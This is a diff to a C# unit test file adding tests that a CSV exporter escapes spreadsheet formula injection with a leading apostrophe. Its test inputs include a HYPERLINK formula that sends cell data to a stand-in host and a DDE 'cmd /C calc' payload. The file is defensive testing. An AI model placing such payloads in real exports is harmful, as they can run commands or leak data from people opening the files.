@@ -97,6 +97,30 @@ public sealed class QuoteFinderTests
             ParseCsv(csv));
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Bấm vào đây\")")]
+    [InlineData("+84 ngày")]
+    [InlineData("-1+2")]
+    [InlineData("@SUM(A1:A9)")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    public void Csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_an_apostrophe(string sentence)
+    {
+        Quote[] quotes = [new("=cmd|' /C calc'!A0", "@II", sentence, "-Kế hoạch", "+cites", new TextSpan(0, 1))];
+
+        var row = ParseCsv(QuoteFinder.ToCsv(quotes))[1];
+
+        Assert.Equal(["'=cmd|' /C calc'!A0", "'@II", "'+cites", "'-Kế hoạch", "'" + sentence], row);
+    }
+
+    [Fact]
+    public void Csv_cells_that_only_contain_formula_characters_later_are_kept_as_written()
+    {
+        Quote[] quotes = [new("a", "II.1", "Tổng = 5 + 3 - 1 @ tỉnh", "Kế hoạch số 62-KH/ĐUK", "cites", new TextSpan(0, 1))];
+
+        Assert.Equal("a,II.1,cites,Kế hoạch số 62-KH/ĐUK,Tổng = 5 + 3 - 1 @ tỉnh\r\n", QuoteFinder.ToCsv(quotes).Split("\r\n", 2)[1]);
+    }
+
     [Fact]
     public void Csv_of_the_seed_quotes_reads_back_field_for_field()
     {
@@ -105,7 +129,8 @@ public sealed class QuoteFinderTests
         var rows = ParseCsv(QuoteFinder.ToCsv(quotes));
 
         Assert.Equal(quotes.Count + 1, rows.Count);
-        Assert.Equal(quotes.Select(q => q.Sentence), rows.Skip(1).Select(r => r[4]));
+        // A sentence read as a formula comes back with the apostrophe that neutralises it, and is otherwise the same.
+        Assert.Equal(quotes.Select(q => q.Sentence), rows.Skip(1).Select(r => r[4].StartsWith("'-", StringComparison.Ordinal) ? r[4][1..] : r[4]));
         Assert.Equal(quotes.Select(q => q.Citation), rows.Skip(1).Select(r => r[3]));
     }
 
